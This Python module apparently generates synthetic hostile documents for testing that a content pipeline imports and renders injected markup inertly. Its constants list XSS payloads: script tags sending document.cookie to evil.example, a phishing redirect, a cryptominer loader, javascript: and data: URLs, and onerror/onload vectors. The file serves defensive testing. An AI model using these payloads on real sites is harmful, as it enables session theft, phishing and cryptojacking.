"""Hostile documents: markup, scripts, ``javascript:`` URLs, over-long fields, wrong types.

All but the wrong types are valid documents that an import must accept (with warnings at
most) and every later layer must show inertly. Wrong types are kept as ``Corruption``s
beside a valid document, because a ``Document`` cannot hold them once validated.
"""

from __future__ import annotations

from typing import Any

from alphanode.content.document import Block, Document, Heading, Image, ListBlock, Paragraph
from alphanode.content.meta import EXTRA
from alphanode.synth import generator as G
from alphanode.synth.draw import Uniform, between, pick, sample
from alphanode.synth.item import SYNTHETIC, Corruption
from alphanode.synth.paragraphs import SECTION

MARKUP = "markup"
SCRIPT = "script"
JAVASCRIPT_URL = "javascript_url"
OVERLONG = "overlong"
WRONG_TYPE = "wrong_type"
KINDS = (MARKUP, SCRIPT, JAVASCRIPT_URL, OVERLONG, WRONG_TYPE)

LONG_FIELD = 20_000  # characters in an over-long field; a page stays far below 4 MiB

INLINE_MARKUP: tuple[str, ...] = (
    "<b>important:</b>",
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(document.cookie)">read more</a>',
    '<iframe src="https://evil.example/frame" width="0" height="0"></iframe>',
    '<svg onload="alert(1)"></svg>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    "<marquee>breaking news</marquee>",
)
# Each over 100 characters, so that the page reader keeps it a paragraph, not a heading.
SCRIPTS: tuple[str, ...] = (
    "<script>fetch('https://evil.example/collect?c=' + encodeURIComponent(document.cookie));"
    " document.body.innerHTML = '';</script>",
    "<script>window.location = 'https://evil.example/phish?from=' +"
    " encodeURIComponent(location.href); alert('session expired');</script>",
    '<script src="https://evil.example/miner.js"></script><script>for (let i = 0; i < 64; i++)'
    ' { new Worker("https://evil.example/w.js"); }</script>',
    "<style>body { display: none }</style><script>document.write('<h1>this site has moved"
    " to evil.example</h1>');</script>",
)
BAD_URLS: tuple[str, ...] = (
    "javascript:alert(document.domain)",
    "javascript:fetch('https://evil.example/?c='+document.cookie)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)
_FIXED_SECTION = tuple(t for t in SECTION if "{" not in t)
OVERLONG_FIELDS = ("paragraph", "title", "summary", "list_item")
# Values the meta schema rejects, per field (see content/meta.py: MINUTES, COUNT, ...).
WRONG_VALUES: dict[str, tuple[str, ...]] = {
    "reading_time": ("nine", "about 5", "5 minutes", "-3"),
    "view_count": ("-5", "lots", "1e6", "12.5"),
    "score": ("high", "101", "-1", "ninety"),
    "flags": ("maybe", "2", "yes please", "unknown"),
    "revision": ("yesterday", "2026-13-45", "16/03/2026", "soon"),
}


def hostile(doc: Document, u: Uniform) -> tuple[Document, tuple[Corruption, ...]]:
    """``doc`` carrying one to three hostile kinds, marked in ``meta.extra.synthetic``."""
    chosen = sample(u, KINDS, between(u, 1, 3))
    kinds = [k for k in KINDS if k in chosen]
    title, body, meta = doc.title, list(doc.body), dict(doc.meta)
    marks: list[str] = []
    corruptions: tuple[Corruption, ...] = ()
    for kind in kinds:
        if kind == MARKUP:
            title = _markup(body, meta, u, title)
            marks.append(MARKUP)
        elif kind == SCRIPT:
            body.insert(1, Paragraph(pick(u, SCRIPTS)))
            marks.append(SCRIPT)
        elif kind == JAVASCRIPT_URL:
            _bad_url(body, u)
            marks.append(JAVASCRIPT_URL)
        elif kind == OVERLONG:
            field = pick(u, OVERLONG_FIELDS)
            title = _overlong(field, body, meta, u, title)
            marks.append(f"{OVERLONG}:{field}")
        else:
            corruptions = _wrong_types(u)
            marks += (f"{WRONG_TYPE}:{c.field.removeprefix('meta.')}" for c in corruptions)
    meta[EXTRA] = {**meta.get(EXTRA, {}), SYNTHETIC: {"hostile": ",".join(marks)}}
    blocks = tuple(body)
    return Document(title, blocks, G.derive(title, blocks, meta)), corruptions


def _markup(body: list[Block], meta: dict[str, Any], u: Uniform, title: str) -> str:
    first = next(i for i, b in enumerate(body) if i > 0 and isinstance(b, Paragraph))
    block = body[first]
    assert isinstance(block, Paragraph)  # noqa: S101 - found as one
    body[first] = Paragraph(f"{pick(u, INLINE_MARKUP)} {block.text}")
    for i, b in enumerate(body):
        if isinstance(b, Heading):
            body[i] = Heading(f"<i>{b.text}</i>")
            break
    meta["ai_brief"] = f"{meta['ai_brief']} {pick(u, INLINE_MARKUP)}"
    return f"<b>{title}</b>" if u() < 0.5 else title


def _bad_url(body: list[Block], u: Uniform) -> None:
    images = [i for i, b in enumerate(body) if isinstance(b, Image)]
    url = pick(u, BAD_URLS)
    if not images:
        caption = "hostile figure 1"
        body.insert(1, Image(caption, caption, "evil.example", url))
        return
    at = pick(u, images)
    old = body[at]
    assert isinstance(old, Image)  # noqa: S101 - found as one
    body[at] = Image(old.alt, old.caption, old.source, url)


def _long(seed_text: str, u: Uniform) -> str:
    parts = [seed_text]
    size = len(seed_text)
    while size < LONG_FIELD:
        parts.append(pick(u, _FIXED_SECTION))
        size += len(parts[-1]) + 1
    return " ".join(parts)


def _overlong(field: str, body: list[Block], meta: dict[str, Any], u: Uniform, title: str) -> str:
    if field == "title":
        return _long(title, u)
    if field == "summary":
        meta["summary"] = _long(meta["summary"], u)
    elif field == "list_item":
        for i, b in enumerate(body):
            if isinstance(b, ListBlock):
                body[i] = ListBlock((_long("start here", u), *b.items))
                break
        else:
            body.append(ListBlock((_long("start here", u),)))
    else:
        body.insert(2, Paragraph(_long("this paragraph goes on.", u)))
    return title


def _wrong_types(u: Uniform) -> tuple[Corruption, ...]:
    out = []
    for key in sample(u, tuple(WRONG_VALUES), between(u, 1, 2)):
        if key == "score":
            path: tuple[str, ...] = (key, pick(u, G.SCORE_KEYS))
        elif key == "flags":
            path = (key, pick(u, G.FLAG_KEYS))
        elif key == "revision":
            path = (key, "last_reviewed")
        else:
            path = (key,)
        out.append(Corruption(path, pick(u, WRONG_VALUES[key])))
    return tuple(sorted(out, key=lambda c: c.path))
